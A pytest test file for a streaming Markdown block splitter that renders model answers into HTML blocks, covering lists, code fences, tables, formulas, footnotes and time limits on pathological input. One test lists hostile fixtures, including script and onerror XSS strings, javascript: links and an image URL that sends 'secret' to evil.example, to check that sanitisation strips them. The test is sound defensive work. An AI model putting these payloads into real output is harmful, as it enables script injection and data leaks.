"""A growing answer is split as the whole one is, whatever the pieces it comes in."""

from __future__ import annotations

import time
from collections.abc import Iterable

import pytest

from smallmind.ui.transcript.blocks import Block, BlockKind, Formula
from smallmind.ui.transcript.markdown_blocks import BlockSplitter, split_markdown

ANSWER = """# Title

A paragraph with **bold**, `code` and a [link](https://example.org).
A second line.

1. one
1. two
   - nested

   still two
1. three

- [x] done
- [ ] open

```python
def f():
    return "```"
```

> quoted
> twice

| a | b |
|---|--:|
| 1 | 2 |

    indented code

Underlined
----------

***

~~~
left open
"""


def kinds(blocks: Iterable[Block]) -> list[str]:
    return [block.kind.value for block in blocks]


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50, 10_000])
def test_pieces_of_any_size_give_the_same_blocks(size: int) -> None:
    splitter = BlockSplitter()
    for start in range(0, len(ANSWER), size):
        splitter.append(ANSWER[start : start + size])
    splitter.finish()
    assert tuple(splitter.finished) == split_markdown(ANSWER)


def test_every_kind_is_found() -> None:
    expected = "heading paragraph item item item item item code quote table code heading rule code"
    assert kinds(split_markdown(ANSWER)) == expected.split()


def test_finished_blocks_never_change() -> None:
    splitter = BlockSplitter()
    seen: list[Block] = []
    for character in ANSWER:
        splitter.append(character)
        assert splitter.finished[: len(seen)] == seen
        assert len(splitter.tail) <= 1
        seen = list(splitter.finished)


def test_numbers_go_on_when_items_are_split() -> None:
    starts = [block.html.split(">")[0] for block in split_markdown("3. a\n3. b\n3. c")]
    assert starts == ['<ol start="3"', '<ol start="4"', '<ol start="5"']


def test_an_open_fence_is_code_at_once_and_hides_its_half_written_end() -> None:
    splitter = BlockSplitter()
    splitter.append("```c\nint x;\n``")
    assert splitter.tail == [Block(BlockKind.CODE, code="int x;", language="c", source="```c\nint x;\n```")]


def test_begun_bold_and_code_are_shown_as_such() -> None:
    splitter = BlockSplitter()
    splitter.append("some **bold wor")
    assert splitter.tail[0].html == "<p>some <strong>bold wor</strong></p>\n"
    splitter.append("ds** and `co")
    assert "<code>co</code>" in splitter.tail[0].html


def test_a_begun_marker_is_not_shown() -> None:
    splitter = BlockSplitter()
    splitter.append("text\n-")
    assert splitter.tail[0].html == "<p>text</p>\n"


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![leak](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "<style>@import url(https://evil.example)</style>",
        "- <img src='https://evil.example/x.png'>",
        "| a |\n|---|\n| <img src=x> |",
    ],
)
def test_no_markup_of_the_model_passes(hostile: str) -> None:
    html = "".join(block.html for block in split_markdown(hostile)).lower()
    assert "<img" not in html
    assert "<script" not in html
    assert "<style" not in html
    assert 'href="javascript' not in html
    assert 'href="data' not in html


def test_right_to_left_text_is_marked() -> None:
    blocks = split_markdown("مرحبا\n\n- واحد\n\nhello")
    assert ['dir="rtl"' in block.html for block in blocks] == [True, True, False]


LONG = (
    "| a | b |\n|---|--:|\n"
    + "".join(f"| {number} | some words |\n" for number in range(450))
    + "\nThen "
    + "a very long paragraph that does not end " * 300
    + "\n\n> "
    + "quoted for ever " * 800
    + "\n\nend"
)


@pytest.mark.parametrize("size", [501, 999, 4_001])
def test_long_blocks_are_cut_at_the_same_places_whatever_the_pieces(size: int) -> None:
    splitter = BlockSplitter()
    for start in range(0, len(LONG), size):
        splitter.append(LONG[start : start + size])
    splitter.finish()
    assert tuple(splitter.finished) == split_markdown(LONG)
    assert max(len(block.source) for block in splitter.finished) < 13_000


def test_a_long_table_goes_on_with_the_same_columns_and_no_second_head() -> None:
    tables = [block for block in split_markdown(LONG) if block.kind is BlockKind.TABLE]
    assert [block.continues for block in tables] == [False, True, True]
    assert {block.columns for block in tables} == {(3, 10)}
    assert sum("<th" in block.html for block in tables) == 1
    assert "449" in tables[-1].html


def test_a_table_of_too_many_columns_is_shown_as_it_is_written() -> None:
    line = "|" + "x|" * 10_000
    blocks = split_markdown(f"{line}\n|{'-|' * 10_000}\n{line}\n")
    assert {block.kind for block in blocks} <= {BlockKind.CODE, BlockKind.PARAGRAPH}


def test_blocks_know_the_markdown_they_were_made_of() -> None:
    sources = [block.source for block in split_markdown("# Title\n\n- a\n  - b\n- c\n\n> q\n> r\n\n```py\nx\n```")]
    assert sources == ["# Title", "- a\n  - b", "- c", "> q\n> r", "```py\nx\n```"]


@pytest.mark.parametrize("text", ["$x^2$", "\\(x^2\\)", "so $x^2$.", "**$x^2$**", "- $x^2$", "| $x^2$ |\n|---|"])
def test_formulas_in_text_are_found(text: str) -> None:
    (block,) = split_markdown(text)
    assert block.formulas == (Formula("x^2"),)
    assert 'src="math:0"' in block.html


@pytest.mark.parametrize(
    "text",
    [
        "$5 and $6",
        "It costs $5-$6.",
        "from $100 (about 90 euros) to $200",
        "$HOME and $PATH",
        "`$x$`",
        "\\$x\\$",
        "a $ b $ c",
        "US$5 or A$7",
        "$20, which is a lot, or 20$",
    ],
)
def test_prices_and_variables_are_no_formulas(text: str) -> None:
    assert not split_markdown(text)[0].formulas


@pytest.mark.parametrize(
    "text",
    ["$$\na\n$$", "$$a$$", "\\[\na\n\\]", "\\[ a \\]", "text:\n$$\na\n$$\nmore", "\\begin{align}\na\n\\end{align}"],
)
def test_display_formulas_are_blocks(text: str) -> None:
    block = next(block for block in split_markdown(text) if block.kind is BlockKind.MATH)
    assert block.formulas[0].is_display
    assert "a" in block.formulas[0].latex


def test_a_display_formula_without_an_end_is_text() -> None:
    assert BlockKind.MATH not in {block.kind for block in split_markdown("$$\na\n\nand so on")}


def test_footnotes_are_raised_marks_and_small_paragraphs() -> None:
    first, second = split_markdown("It is so.[^1]\n\n[^1]: By *definition*.")
    assert "<sup>1</sup>" in first.html
    assert second.html == "<p><sup>1</sup> By <em>definition</em>.</p>\n"


@pytest.mark.parametrize(
    "hostile",
    [">" * 50_000, "- " * 5_000, "[" * 20_000, "**a" * 9_000, "$" * 20_000, "[^" * 9_000, "\\(" * 9_000, "x" * 60_000],
)
def test_hostile_text_costs_a_bounded_time_per_piece(hostile: str) -> None:
    splitter = BlockSplitter()
    slowest = 0.0
    for start in range(0, len(hostile), 1_000):
        started = time.process_time()
        splitter.append(hostile[start : start + 1_000])
        slowest = max(slowest, time.process_time() - started)
    assert slowest < 1.0  # of all that came before, were it not bounded, a piece would cost many times that
